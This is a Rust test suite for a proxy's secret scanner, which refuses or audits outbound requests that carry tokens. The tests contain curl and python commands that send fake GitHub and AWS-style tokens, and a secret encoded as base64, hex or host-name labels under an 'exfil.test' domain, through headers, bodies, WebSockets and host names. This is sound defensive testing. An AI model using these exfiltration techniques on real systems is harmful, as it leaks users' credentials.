//! `[scan]`: secrets in the path, the query and the headers of what a
//! program sends through `run`, found with real clients (curl, python
//! requests): token formats, and a value named in `secret_env` raw and
//! encoded; refused as `secret_detected` naming the detector and the place,
//! never the value — in the answer and in every record; audit mode lets it
//! through and records it; ordinary traffic and documentation examples
//! pass untouched.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::*;

const GITHUB: &str = "ghp_R2d2C3poR2d2C3poR2d2C3poR2d2C3po1234";
const KNOWN: &str = "hunter2-very-secret-value";

/// `run --config` with `[scan] action` and the records in `dir`, running
/// `script` with `MY_SECRET` set: exit code, stdout, stderr.
async fn scanned(
    action: &str,
    dir: &std::path::Path,
    script: &str,
) -> (Option<i32>, String, String) {
    scanned_with(action, "", dir, script).await
}

/// The same, with more `[scan]` keys.
async fn scanned_with(
    action: &str,
    extra: &str,
    dir: &std::path::Path,
    script: &str,
) -> (Option<i32>, String, String) {
    let config = dir.join("scan.toml");
    std::fs::write(
        &config,
        format!(
            "[network]\nallowed_domains = [\"127.0.0.1\"]\nallow_local_binding = true\n\n[scan]\naction = \"{action}\"\nsecret_env = [\"MY_SECRET\"]\n{extra}\n\n[log]\nviolations_file = {:?}\naccess_file = {:?}\n",
            dir.join("violations.jsonl"),
            dir.join("access.jsonl"),
        ),
    )
    .unwrap();
    output(
        portcullis()
            .env("MY_SECRET", KNOWN)
            .args(["run", "--config"])
            .arg(&config)
            .args(["--", "sh", "-c", script]),
    )
    .await
}

fn records(dir: &std::path::Path) -> String {
    let mut text = String::new();
    for name in ["violations.jsonl", "access.jsonl"] {
        text.push_str(&std::fs::read_to_string(dir.join(name)).unwrap_or_default());
    }
    text
}

#[tokio::test]
async fn secrets_are_refused_where_they_are_and_never_recorded() {
    let origin = origin().await;
    let base = format!("http://127.0.0.1:{}", origin.addr.port());
    let dir = tempfile::tempdir().unwrap();
    let basic = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("me:{GITHUB}"))
    };
    let known_b64 = {
        use base64::Engine;
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("x={KNOWN}"))
    };
    let known_hex: String = KNOWN.bytes().map(|b| format!("{b:02x}")).collect();
    let script = format!(
        r#"
curl -s -o /dev/null -w "query %{{http_code}}\n" "{base}/?t={GITHUB}"
curl -s -o /dev/null -w "path %{{http_code}}\n" "{base}/repos/{GITHUB}/x"
curl -s -o /dev/null -w "header %{{http_code}}\n" -H "X-Key: AKIAZ7QWERTY2345ABCD" "{base}/"
curl -s -o /dev/null -w "basic %{{http_code}}\n" -H "Authorization: Basic {basic}" "{base}/"
curl -s -o /dev/null -w "known-b64 %{{http_code}}\n" "{base}/?d={known_b64}"
curl -s -o /dev/null -w "known-hex %{{http_code}}\n" "{base}/{known_hex}"
curl -s -o /dev/null -w "known-percent %{{http_code}}\n" "{base}/?v=hunter2%2Dvery%2Dsecret%2Dvalue"
python3 -c 'import os, urllib.request
r = urllib.request.Request("{base}/py", headers={{"X-Api-Key": os.environ["MY_SECRET"]}})
try:
    urllib.request.urlopen(r); print("python 200")
except urllib.error.HTTPError as e:
    print("python", e.code, e.headers.get("x-proxy-error"))'
curl -s -D - -o /dev/null "{base}/?t={GITHUB}" | tr -d '\r' | grep -i '^x-proxy-error'
curl -s "{base}/?t={GITHUB}"; echo
curl -s -o /dev/null -w "example %{{http_code}}\n" "{base}/?k=AKIAIOSFODNN7EXAMPLE"
curl -s -o /dev/null -w "uuid %{{http_code}}\n" "{base}/items/8c6f1f0e-6a0f-4b8e-9a39-3b0f3c1d2e4f"
curl -s -o /dev/null -w "names %{{http_code}}\n" "{base}/search?q=MY_SECRET+GITHUB_TOKEN"
curl -s -o /dev/null -w "plain %{{http_code}}\n" -H "Authorization: Bearer not-a-known-token-format" "{base}/"
"#
    );
    let (code, stdout, stderr) = scanned("deny", dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
    for (name, wanted) in [
        ("query", "403"),
        ("path", "403"),
        ("header", "403"),
        ("basic", "403"),
        ("known-b64", "403"),
        ("known-hex", "403"),
        ("known-percent", "403"),
        ("example", "200"),
        ("uuid", "200"),
        ("names", "200"),
        ("plain", "200"),
    ] {
        assert!(
            stdout.contains(&format!("{name} {wanted}\n")),
            "{name} should be {wanted}:\n{stdout}\n{stderr}"
        );
    }
    assert!(
        stdout.contains("python 403 blocked-by-secret-scan"),
        "{stdout}"
    );
    assert!(
        stdout.contains("x-proxy-error: blocked-by-secret-scan"),
        "{stdout}"
    );
    assert!(
        stdout.contains(r#""reason":"secret_detected""#)
            && stdout.contains("it carries a secret: github_token in the query string"),
        "{stdout}"
    );
    // The value is nowhere: not in an answer, a record or the summary.
    let recorded = records(dir.path());
    assert!(recorded.contains("secret_detected"), "{recorded}");
    assert!(
        recorded.contains("known:MY_SECRET in the query string (base64)")
            && recorded.contains("known:MY_SECRET in the URL path (hex)")
            && recorded.contains("known:MY_SECRET in the x-api-key header"),
        "{recorded}"
    );
    for text in [&stdout, &stderr, &recorded] {
        assert!(!text.contains(GITHUB), "{text}");
        assert!(!text.contains(KNOWN), "{text}");
        assert!(!text.contains(&known_hex), "{text}");
    }
    assert!(origin.connections.load(std::sync::atomic::Ordering::SeqCst) > 0);
}

#[tokio::test]
async fn audit_mode_lets_it_through_and_records_where_not_what() {
    let origin = origin().await;
    let base = format!("http://127.0.0.1:{}", origin.addr.port());
    let dir = tempfile::tempdir().unwrap();
    let script =
        format!(r#"curl -s -o /dev/null -w "path %{{http_code}}\n" "{base}/repos/{GITHUB}/x""#);
    let (code, stdout, stderr) = scanned("audit", dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("path 200"), "{stdout}\n{stderr}");
    let recorded = records(dir.path());
    assert!(
        recorded.contains(r#""decision":"audit""#)
            && recorded.contains("github_token in the URL path"),
        "{recorded}"
    );
    // The access record keeps the request, without its path.
    assert!(recorded.contains(r#""code":200"#), "{recorded}");
    assert!(!recorded.contains(GITHUB), "{recorded}");
    assert!(!stderr.contains(GITHUB), "{stderr}");
}

#[tokio::test]
async fn scanning_is_off_unless_set() {
    let origin = origin().await;
    let base = format!("http://127.0.0.1:{}", origin.addr.port());
    let dir = tempfile::tempdir().unwrap();
    let script =
        format!(r#"curl -s -o /dev/null -w "query %{{http_code}}\n" "{base}/?t={GITHUB}""#);
    let (code, stdout, stderr) = scanned("off", dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("query 200"), "{stdout}\n{stderr}");
}

/// The scan sees intercepted HTTPS requests too, and runs before the
/// credentials are added: the placeholder a program holds (shaped like the
/// token) passes, the origin gets the secret, and another real-looking
/// token is refused.
#[tokio::test]
async fn intercepted_requests_are_scanned_before_credentials_are_added() {
    const SECRET: &str = "ghp_REALsecretREALsecretREALsecret012345";
    const OTHER: &str = "ghp_OTHERsecretOTHERsecretOTHERsecret012";
    let (secure, pem) = https_origin().await;
    let dir = tempfile::tempdir().unwrap();
    let config = mitm_config(dir.path(), &pem);
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str(
        r#"
[network]
allowed_domains = ["secure.test"]
allow_local_binding = true

[dns]
hosts = { "secure.test" = ["127.0.0.1"] }

[scan]
action = "deny"

[log]
violations_file = "VIOLATIONS"

[[credentials]]
name = "github"
hosts = ["secure.test"]
value = "Bearer {secret}"
source = { env = "TEST_TOKEN" }
placeholder_env = "GITHUB_TOKEN"
"#,
    );
    let violations = dir.path().join("violations.jsonl");
    let text = text.replace("VIOLATIONS", violations.to_str().unwrap());
    std::fs::write(&config, text).unwrap();
    let port = secure.port();
    // The secret itself, base64'd: a program that found it elsewhere.
    let leaked = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("token={SECRET}"))
    };
    let script = format!(
        r#"curl -s -H "Authorization: Bearer $GITHUB_TOKEN" https://secure.test:{port}/whoami; echo
curl -s -o /dev/null -w "other %{{http_code}}\n" -H "X-Other: {OTHER}" https://secure.test:{port}/
curl -s -o /dev/null -w "leak %{{http_code}}\n" -H "X-Leak: {leaked}" https://secure.test:{port}/"#
    );
    let (code, stdout, stderr) = output(
        portcullis()
            .env("TEST_TOKEN", SECRET)
            .args(["run", "--config"])
            .arg(&config)
            .args(["--", "sh", "-c", &script]),
    )
    .await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stdout.contains(&format!("auth Bearer {SECRET}")),
        "the placeholder passed the scan and the secret was added after it: {stdout}\n{stderr}"
    );
    assert!(stdout.contains("other 403"), "{stdout}\n{stderr}");
    assert!(stdout.contains("leak 403"), "{stdout}\n{stderr}");
    let recorded = std::fs::read_to_string(&violations).unwrap();
    assert!(
        recorded.contains("credential:github in the x-leak header (base64)"),
        "the credential's own secret, by value: {recorded}"
    );
    assert!(
        !recorded.contains(SECRET) && !recorded.contains(&leaked),
        "{recorded}"
    );
    assert!(
        stderr.contains("github_token in the x-other header"),
        "{stderr}"
    );
    assert!(
        !stderr.contains(OTHER) && !stderr.contains(SECRET),
        "{stderr}"
    );
}

/// Bodies: a form, JSON with its escapes, NDJSON, gzip, deflate and br,
/// multipart, a known value base64'd inside JSON — each refused naming the
/// body; ordinary bodies pass; a body over `max_body` is refused
/// (`not_inspected`) under deny and let through under audit.
#[tokio::test]
async fn bodies_are_scanned_decoded_and_bounded() {
    let origin = origin().await;
    let base = format!("http://127.0.0.1:{}", origin.addr.port());
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display();
    let known_b64 = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(KNOWN)
    };
    let escaped: String = GITHUB
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    // A brotli body (`Content-Encoding: br`, as browsers and some SDKs send).
    let mut brotli_body = Vec::new();
    {
        use std::io::Write;
        let mut writer = brotli::CompressorWriter::new(&mut brotli_body, 4096, 5, 22);
        writer
            .write_all(format!("key={GITHUB}").as_bytes())
            .unwrap();
    }
    std::fs::write(dir.path().join("body.br"), &brotli_body).unwrap();
    std::fs::write(dir.path().join("bad.br"), b"not brotli at all").unwrap();
    let script = format!(
        r#"
post() {{ name=$1; shift; curl -s -o /dev/null -w "$name %{{http_code}}\n" "$@" "{base}/upload"; }}
post form -d "token={GITHUB}"
printf '{{"note":"{escaped}"}}' > {d}/escaped.json
post json-escaped -H "Content-Type: application/json" --data-binary @{d}/escaped.json
printf '{{"a":1}}\n{{"t":"{GITHUB}"}}\n' > {d}/lines.ndjson
post ndjson -H "Content-Type: application/x-ndjson" --data-binary @{d}/lines.ndjson
printf 'key={GITHUB}' | gzip > {d}/body.gz
post gzip -H "Content-Encoding: gzip" --data-binary @{d}/body.gz
python3 -c 'import zlib,sys; sys.stdout.buffer.write(zlib.compress(b"key={GITHUB}"))' > {d}/body.zz
post deflate -H "Content-Encoding: deflate" --data-binary @{d}/body.zz
post br -H "Content-Encoding: br" --data-binary @{d}/body.br
post bad-br -H "Content-Encoding: br" --data-binary @{d}/bad.br
printf 'config\nsecret = {GITHUB}\n' > {d}/notes.txt
post multipart -F "file=@{d}/notes.txt"
post known-json -H "Content-Type: application/json" -d '{{"blob":"{known_b64}"}}'
post benign-json -H "Content-Type: application/json" -d '{{"name":"build","id":"8c6f1f0e-6a0f-4b8e-9a39-3b0f3c1d2e4f","key":"AKIAIOSFODNN7EXAMPLE"}}'
post benign-form -d "q=GITHUB_TOKEN&page=2"
head -c 20000 /dev/zero | tr '\0' 'a' > {d}/big.txt
post big --data-binary @{d}/big.txt
"#
    );
    let (code, stdout, stderr) =
        scanned_with("deny", "max_body = 16384", dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stderr}");
    for (name, wanted) in [
        ("form", "403"),
        ("json-escaped", "403"),
        ("ndjson", "403"),
        ("gzip", "403"),
        ("deflate", "403"),
        ("br", "403"),
        ("bad-br", "403"),
        ("multipart", "403"),
        ("known-json", "403"),
        ("benign-json", "200"),
        ("benign-form", "200"),
        ("big", "403"),
    ] {
        assert!(
            stdout.contains(&format!("{name} {wanted}\n")),
            "{name} should be {wanted}:\n{stdout}\n{stderr}"
        );
    }
    let recorded = records(dir.path());
    assert!(
        recorded.contains("github_token in the body (JSON-escaped)"),
        "{recorded}"
    );
    assert!(
        recorded.contains("known:MY_SECRET in the body (base64)"),
        "{recorded}"
    );
    assert!(
        recorded.contains(r#""reason":"not_inspected""#) && recorded.contains("over 16 KiB"),
        "{recorded}"
    );
    assert!(recorded.contains("its br does not decode"), "{recorded}");
    assert!(
        !recorded.contains(GITHUB) && !recorded.contains(KNOWN),
        "{recorded}"
    );
    // gzip, deflate and br were undone and judged, not refused as
    // unreadable: only the big body and the broken brotli one were.
    assert!(!recorded.contains("can undo"), "{recorded}");
    assert_eq!(
        recorded.matches(r#""reason":"not_inspected""#).count(),
        2,
        "only the big body and the broken one: {recorded}"
    );

    // Audit: the big body goes on untouched, recorded as not inspected.
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().display();
    let script = format!(
        r#"head -c 20000 /dev/zero | tr '\0' 'a' > {d}/big.txt
curl -s -o /dev/null -w "big %{{http_code}}\n" --data-binary @{d}/big.txt "{base}/upload""#
    );
    let (code, stdout, stderr) =
        scanned_with("audit", "max_body = 16384", dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("big 200"), "{stdout}\n{stderr}");
    assert!(records(dir.path()).contains(r#""decision":"audit""#));
}

/// `check` answers as the proxy would: the scan is in its stack.
#[tokio::test]
async fn check_names_the_finding() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("scan.toml");
    std::fs::write(
        &config,
        "[network]\nallowed_domains = [\"api.test\"]\n\n[scan]\naction = \"deny\"\n",
    )
    .unwrap();
    let (code, stdout, stderr) = output(
        portcullis()
            .args(["check", "--config"])
            .arg(&config)
            .arg(format!("http://api.test/?t={GITHUB}")),
    )
    .await;
    assert_eq!(code, Some(1), "{stdout}{stderr}");
    assert!(
        stdout.contains("reason: secret_detected")
            && stdout.contains("rule: github_token in the query string"),
        "{stdout}"
    );
    assert!(!stdout.contains(GITHUB), "{stdout}");
}

/// What scanning leaves unseen is said: `check` marks a `skip_hosts` host,
/// and the start names them.
#[tokio::test]
async fn the_hosts_left_unseen_are_named() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("scan.toml");
    std::fs::write(
        &config,
        "[network]\nallowed_domains = [\"a.test\", \"b.test\", \"**.cdn.test\"]\nallow_local_binding = true\n\n[dns]\nhosts = { \"a.test\" = [\"127.0.0.1\"], \"b.test\" = [\"127.0.0.1\"], \"0123456789abcdef0123456789abcdef0123.cdn.test\" = [\"127.0.0.1\"] }\n\n[scan]\naction = \"deny\"\nskip_hosts = [\"b.test\", \"**.cdn.test\"]\n",
    )
    .unwrap();
    let (code, stdout, stderr) =
        output(portcullis().args(["check", "--config"]).arg(&config).args([
            "https://a.test/",
            "https://b.test/",
            // A skipped host's labels are not judged either.
            "https://0123456789abcdef0123456789abcdef0123.cdn.test/",
        ]))
        .await;
    assert_eq!(code, Some(0), "{stdout}{stderr}");
    assert!(
        stdout.contains("rule: allowed_domains: a.test\n")
            && stdout.contains(
                "rule: allowed_domains: b.test; not scanned for secrets ([scan] skip_hosts)"
            )
            && stdout.contains("allow 0123456789abcdef0123456789abcdef0123.cdn.test:443"),
        "{stdout}"
    );
    let (code, _, stderr) = output(
        portcullis()
            .env("PORTCULLIS_LOG", "info")
            .args(["run", "--config"])
            .arg(&config)
            .args(["--", "true"]),
    )
    .await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("except to b.test, **.cdn.test ([scan] skip_hosts), which pass unseen"),
        "{stderr}"
    );
}

/// With scanning on, every HTTPS tunnel it covers is intercepted, so a
/// secret in an HTTPS query to an allowed host is seen; `skip_hosts`
/// leaves a host's tunnels opaque (a client that pins its certificate):
/// the client then meets the origin's own certificate.
#[tokio::test]
async fn scanning_intercepts_https_to_see_it_and_skip_hosts_pass_through() {
    let (secure, pem) = https_origin().await;
    let port = secure.port();
    let run = |skip: &'static str, script: String| {
        let dir = tempfile::tempdir().unwrap();
        let config = mitm_config(dir.path(), &pem);
        let mut text = std::fs::read_to_string(&config).unwrap();
        text.push_str(&format!(
            "\n[network]\nallowed_domains = [\"secure.test\"]\nallow_local_binding = true\n\n[dns]\nhosts = {{ \"secure.test\" = [\"127.0.0.1\"] }}\n\n[scan]\naction = \"deny\"\n{skip}\n"
        ));
        std::fs::write(&config, text).unwrap();
        async move {
            let result = output(
                portcullis()
                    .args(["run", "--config"])
                    .arg(&config)
                    .args(["--", "sh", "-c", &script]),
            )
            .await;
            drop(dir);
            result
        }
    };
    // Intercepted: the child trusts the proxy's CA; the secret is seen.
    let script = format!(
        r#"curl -s -o /dev/null -w "secret %{{http_code}}\n" "https://secure.test:{port}/?t={GITHUB}"
curl -s "https://secure.test:{port}/"; echo
curl -s -o /dev/null --proxy "$PORTCULLIS_SOCKS_URL" "https://secure.test:{port}/"; echo "socks $?""#
    );
    let (code, stdout, stderr) = run("", script).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("secret 403\n"), "{stdout}\n{stderr}");
    assert!(stdout.contains("secure hello"), "{stdout}\n{stderr}");
    // Over SOCKS5 the tunnel cannot be seen: refused, saying so.
    assert!(stdout.contains("socks 97\n"), "{stdout}\n{stderr}");
    assert!(
        stderr.contains("this tunnel cannot be intercepted"),
        "{stderr}"
    );
    // Skipped: the origin's own certificate (untrusted by the child: curl
    // exit 60), and with -k the secret goes through unseen.
    let script = format!(
        r#"curl -s -o /dev/null "https://secure.test:{port}/"; echo "verify $?"
curl -k -s -o /dev/null -w "secret %{{http_code}}\n" "https://secure.test:{port}/?t={GITHUB}""#
    );
    let (code, stdout, stderr) = run("skip_hosts = [\"secure.test\"]", script).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("verify 60\n"), "{stdout}\n{stderr}");
    assert!(stdout.contains("secret 200\n"), "{stdout}\n{stderr}");
}

/// A wildcard entry lets a program choose labels; data encoded in them is
/// refused on every way in — over plain HTTP, and inside a `CONNECT` that
/// is never intercepted — naming the host name, while ordinary names pass.
#[tokio::test]
async fn encoded_host_labels_under_a_wildcard_are_refused() {
    let origin = origin().await;
    let port = origin.addr.port();
    let dir = tempfile::tempdir().unwrap();
    let hex_known: String = KNOWN.bytes().map(|b| format!("{b:02x}")).collect();
    let base32 = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2tkmzy";
    let names = [
        "logs.exfil.test".to_owned(),
        "github-production-release-asset-2e65be.exfil.test".to_owned(),
        format!("{hex_known}.exfil.test"),
        format!("{base32}.exfil.test"),
    ];
    let hosts: Vec<String> = names
        .iter()
        .map(|name| format!("\"{name}\" = [\"127.0.0.1\"]"))
        .collect();
    let config = dir.path().join("scan.toml");
    std::fs::write(
        &config,
        format!(
            "[network]\nallowed_domains = [\"**.exfil.test\"]\nallow_local_binding = true\n\n[dns]\nhosts = {{ {} }}\n\n[scan]\naction = \"deny\"\nsecret_env = [\"MY_SECRET\"]\n\n[log]\nviolations_file = {:?}\n",
            hosts.join(", "),
            dir.path().join("violations.jsonl")
        ),
    )
    .unwrap();
    let script = format!(
        r#"for name in {names}; do curl -s -o /dev/null -w "$name %{{http_code}}\n" "http://$name:{port}/"; done
curl -s -p -o /dev/null "http://{base32}.exfil.test:{port}/"; echo "tunnel $?""#,
        names = names.join(" ")
    );
    let (code, stdout, stderr) = output(
        portcullis()
            .env("MY_SECRET", KNOWN)
            .args(["run", "--config"])
            .arg(&config)
            .args(["--", "sh", "-c", &script]),
    )
    .await;
    assert_eq!(code, Some(0), "{stderr}");
    for (name, wanted) in names.iter().zip(["200", "200", "403", "403"]) {
        assert!(
            stdout.contains(&format!("{name} {wanted}\n")),
            "{name} should be {wanted}:\n{stdout}\n{stderr}"
        );
    }
    // The tunnel is refused before it opens (curl: CONNECT failed).
    assert!(stdout.contains("tunnel 56"), "{stdout}\n{stderr}");
    let recorded = std::fs::read_to_string(dir.path().join("violations.jsonl")).unwrap();
    assert!(
        recorded.contains("known:MY_SECRET in the host name (hex)"),
        "{recorded}"
    );
    assert!(
        recorded.contains("encoded_hostname (a label of 48 characters"),
        "{recorded}"
    );
    // The name held the data: records show the fixed domain only.
    assert!(recorded.contains("{redacted}.exfil.test"), "{recorded}");
    // (stdout is the script's own echo of the names.)
    for text in [&recorded, &stderr] {
        assert!(
            !text.contains(&hex_known) && !text.contains(base32),
            "{text}"
        );
    }
}

/// A python `websockets` echo server (permessage-deflate on offer, as the
/// library does by default) on `127.0.0.1:0`, stopped when dropped; `None`
/// where python's websockets is missing (required under CI).
async fn websocket_origin() -> Option<(tokio::process::Child, u16)> {
    let script = r#"
import asyncio
from websockets.asyncio.server import serve
async def echo(ws):
    async for message in ws:
        await ws.send(message)
async def main():
    async with serve(echo, "127.0.0.1", 0, max_size=None) as server:
        print(server.sockets[0].getsockname()[1], flush=True)
        await asyncio.Future()
asyncio.run(main())
"#;
    python_server(&["-c", script], "websockets").await
}

/// A python `websockets` client through `run`: each line of `cases` is
/// `label|compression|message` where a message with `^` in it is sent in
/// fragments split there; prints `label echoed EXTENSIONS` or
/// `label closed`.
fn websocket_client(port: u16, cases: &[(&str, &str, String)]) -> String {
    let cases = cases
        .iter()
        .map(|(label, compression, message)| format!("({label:?}, {compression}, {message:?})"))
        .collect::<Vec<_>>()
        .join(",\n    ");
    format!(
        r#"python3 - <<'PY'
import asyncio
from websockets.asyncio.client import connect
CASES = [
    {cases}
]
async def one(label, compression, message):
    try:
        async with connect("ws://127.0.0.1:{port}/", compression=compression, open_timeout=10, close_timeout=2) as ws:
            parts = message.split("^")
            await ws.send(parts if len(parts) > 1 else message)
            echoed = await asyncio.wait_for(ws.recv(), 10)
            assert echoed == message.replace("^", ""), echoed
            print(label, "echoed", ws.response.headers.get("Sec-WebSocket-Extensions"))
    except Exception as error:
        print(label, "closed", type(error).__name__)
async def main():
    for case in CASES:
        await one(*case)
asyncio.run(main())
PY
"#
    )
}

/// Client WebSocket messages are judged whole, before any of a message
/// leaves: plain, fragmented (the secret split across fragments) and
/// compressed (permessage-deflate, as python's websockets negotiates it),
/// a known value base64'd inside JSON; ordinary messages echo untouched;
/// audit lets the secret through and records it.
#[tokio::test]
async fn websocket_messages_are_scanned_whole_and_inflated() {
    let Some((_server, port)) = websocket_origin().await else {
        return;
    };
    let (head, tail) = GITHUB.split_at(20);
    let known_b64 = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(KNOWN)
    };
    let cases = [
        ("benign", "None", "hello, just text".to_owned()),
        (
            "benign-compressed",
            "\"deflate\"",
            "git status: nothing to commit, working tree clean ".repeat(20),
        ),
        ("benign-fragments", "None", "part one, ^part two".to_owned()),
        ("plain", "None", format!("token {GITHUB}")),
        ("fragments", "None", format!("token {head}^{tail}")),
        ("compressed", "\"deflate\"", format!("token {GITHUB}")),
        (
            "compressed-fragments",
            "\"deflate\"",
            format!("{{\"k\": \"{head}^{tail}\"}}"),
        ),
        (
            "known-json",
            "\"deflate\"",
            format!("{{\"data\": \"{known_b64}\"}}"),
        ),
        ("after", "\"deflate\"", "still served".to_owned()),
    ];
    let script = websocket_client(port, &cases);
    let dir = tempfile::tempdir().unwrap();
    let (code, stdout, stderr) = scanned("deny", dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
    for (label, wanted) in [
        ("benign", "benign echoed None"),
        (
            "benign-compressed",
            "benign-compressed echoed permessage-deflate",
        ),
        ("benign-fragments", "benign-fragments echoed"),
        ("plain", "plain closed"),
        ("fragments", "fragments closed"),
        ("compressed", "compressed closed"),
        ("compressed-fragments", "compressed-fragments closed"),
        ("known-json", "known-json closed"),
        ("after", "after echoed"),
    ] {
        assert!(
            stdout.lines().any(|line| line.starts_with(wanted)),
            "{label}: wanted {wanted:?}\n{stdout}\n{stderr}"
        );
    }
    let recorded = records(dir.path());
    assert_eq!(
        recorded
            .matches(r#""rule":"github_token in a WebSocket message""#)
            .count(),
        4,
        "{recorded}"
    );
    assert!(
        recorded.contains("known:MY_SECRET in a WebSocket message"),
        "{recorded}"
    );
    for text in [&stdout, &stderr, &recorded] {
        assert!(!text.contains(GITHUB) && !text.contains(tail), "{text}");
        assert!(
            !text.contains(KNOWN) && !text.contains(&known_b64),
            "{text}"
        );
    }

    // Audit: the same secret goes through, on the record.
    let dir = tempfile::tempdir().unwrap();
    let script = websocket_client(port, &cases[5..6]);
    let (code, stdout, stderr) = scanned("audit", dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stdout.contains("compressed echoed"), "{stdout}\n{stderr}");
    let recorded = records(dir.path());
    assert!(
        recorded.contains(r#""decision":"audit""#)
            && recorded.contains("github_token in a WebSocket message"),
        "{recorded}"
    );
}

/// Actions per detector and per host: with `action = "off"` and one host
/// set to `deny`, only that host is scanned; a detector set to `audit`
/// goes through on the record, one set to `off` (by prefix) is not looked
/// for, and the others still refuse. A detector name no scanner has is a
/// config error naming the key.
#[tokio::test]
async fn detectors_and_hosts_each_have_their_action() {
    let origin = origin().await;
    let base = format!("http://127.0.0.1:{}", origin.addr.port());
    let dir = tempfile::tempdir().unwrap();
    let script = format!(
        r#"
curl -s -o /dev/null -w "github %{{http_code}}\n" "{base}/?t={GITHUB}"
curl -s -o /dev/null -w "known %{{http_code}}\n" "{base}/?t={KNOWN}"
curl -s -o /dev/null -w "aws %{{http_code}}\n" -H "X-Key: AKIAZ7QWERTY2345ABCD" "{base}/"
"#
    );
    let extra = "detectors = { github_token = \"audit\", \"known:*\" = \"off\" }\n\n[[scan.hosts]]\nhost = \"127.0.0.1\"\naction = \"deny\"\n";
    let (code, stdout, stderr) = scanned_with("off", extra, dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stderr}");
    for wanted in ["github 200", "known 200", "aws 403"] {
        assert!(stdout.contains(wanted), "{wanted}:\n{stdout}\n{stderr}");
    }
    let recorded = records(dir.path());
    assert!(
        recorded.contains(r#""decision":"audit""#)
            && recorded.contains(r#""rule":"github_token in the query string""#),
        "{recorded}"
    );
    assert!(
        recorded.contains(r#""decision":"deny""#) && recorded.contains("aws_access_key_id"),
        "{recorded}"
    );
    assert!(
        !recorded.contains("known:MY_SECRET"),
        "off is not looked for: {recorded}"
    );
    assert!(
        stderr.contains("[scan.detectors] \\\"aws_access_key_id\\\" = \\\"audit\\\"")
            || recorded.contains(r#"[scan.detectors] \"aws_access_key_id\" = \"audit\""#),
        "the refusal says how to tune it: {recorded}"
    );

    // Scanning off everywhere else: the host entry was the only one on.
    let dir = tempfile::tempdir().unwrap();
    let extra = "[[scan.hosts]]\nhost = \"other.test\"\naction = \"deny\"\n";
    let (code, stdout, stderr) = scanned_with("off", extra, dir.path(), &script).await;
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stdout.contains("aws 200") && stdout.contains("github 200"),
        "{stdout}"
    );

    // A typo in a detector's name.
    let dir = tempfile::tempdir().unwrap();
    let (code, _, stderr) = scanned_with(
        "deny",
        "detectors = { githb_token = \"audit\" }\n",
        dir.path(),
        "true",
    )
    .await;
    assert_eq!(code, Some(64), "{stderr}");
    assert!(
        stderr.contains("scan.detectors.\"githb_token\"") && stderr.contains("scan.toml"),
        "{stderr}"
    );
}
